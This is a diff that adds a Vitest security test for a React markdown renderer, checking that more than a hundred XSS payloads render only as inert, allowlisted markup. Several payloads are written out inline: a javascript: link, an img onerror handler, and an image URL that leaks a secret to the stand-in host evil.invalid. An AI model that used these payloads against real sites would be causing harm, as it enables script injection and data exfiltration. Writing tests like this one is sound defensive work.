@@ -1,0 +1,75 @@
+// @vitest-environment happy-dom
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { xssPayloadsFor } from "../../../../test/browser/xss-payloads.ts";
+import { MarkdownBlocks } from "../../src/text/markdown-blocks.tsx";
+
+const payloads = xssPayloadsFor("evil.invalid");
+
+/** What an answer may consist of. */
+const allowedTags: ReadonlySet<string> = new Set(
+  [
+    ...["a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "img", "input", "li", "ol", "p"],
+    ...["pre", "section", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"],
+    // Of our own components.
+    ...["button", "div", "figcaption", "figure", "path", "span", "svg"],
+  ].map((name) => name.toUpperCase()),
+);
+
+function shown(text: string, isStreaming: boolean): Element[] {
+  const page = new DOMParser().parseFromString(
+    `<body>${renderToStaticMarkup(<MarkdownBlocks text={text} isStreaming={isStreaming} />)}</body>`,
+    "text/html",
+  );
+  return [...page.body.querySelectorAll("*")];
+}
+
+function faultsOf(element: Element): string[] {
+  const { tagName } = element;
+  const faults = allowedTags.has(tagName.toUpperCase()) ? [] : [`<${tagName}>`];
+  for (const { name, value } of element.attributes) {
+    if (name.startsWith("on") || name === "style" || name === "srcset" || name === "srcdoc") faults.push(name);
+    if (name === "href" && !/^(?:https?:\/\/|mailto:|#)/u.test(value)) faults.push(`href=${value}`);
+    if (name === "src" && !/^data:image\/(?:png|jpeg|gif|webp);base64,/u.test(value)) faults.push(`src=${value}`);
+  }
+  if (element.getAttribute("href")?.startsWith("http") === true && element.getAttribute("rel") === null)
+    faults.push("rel");
+  return faults;
+}
+
+describe("text that attacks", () => {
+  test("comes in more than a hundred ways", () => {
+    expect(new Set(payloads).size).toBeGreaterThan(100);
+  });
+
+  test("is text", () => {
+    for (const payload of payloads)
+      expect({ payload, faults: faultsIn(payload, false) }).toEqual({ payload, faults: [] });
+  });
+
+  test.each([
+    ["while it is streamed", true, (payload: string) => payload],
+    ["in the middle of a text", false, (payload: string) => `before ${payload} after\n\n${payload}\n\nafter`],
+    ["in a list", false, (payload: string) => `- item\n- ${payload.replaceAll("\n", "\n  ")}`],
+    ["in a table", false, (payload: string) => `| a | b |\n|---|---|\n| ${payload.replaceAll("\n", " ")} | x |`],
+  ])("is text %s", (_, isStreaming, around) => {
+    // The browser tier tries all of them everywhere.
+    for (const payload of payloads.filter((_, index) => index % 12 === 0)) {
+      expect({ payload, faults: faultsIn(around(payload), isStreaming) }).toEqual({ payload, faults: [] });
+    }
+  });
+
+  test("is text at each place at which it can be cut while it is streamed", () => {
+    for (const payload of [
+      "[x](javascript:alert(1))",
+      "![x](https://evil.invalid/?secret=1)",
+      "<img src=x onerror=alert(1)>",
+    ]) {
+      for (let end = 1; end < payload.length; end += 2) expect(faultsIn(payload.slice(0, end), true)).toEqual([]);
+    }
+  });
+});
+
+function faultsIn(text: string, isStreaming: boolean): string[] {
+  return shown(text, isStreaming).flatMap(faultsOf);
+}
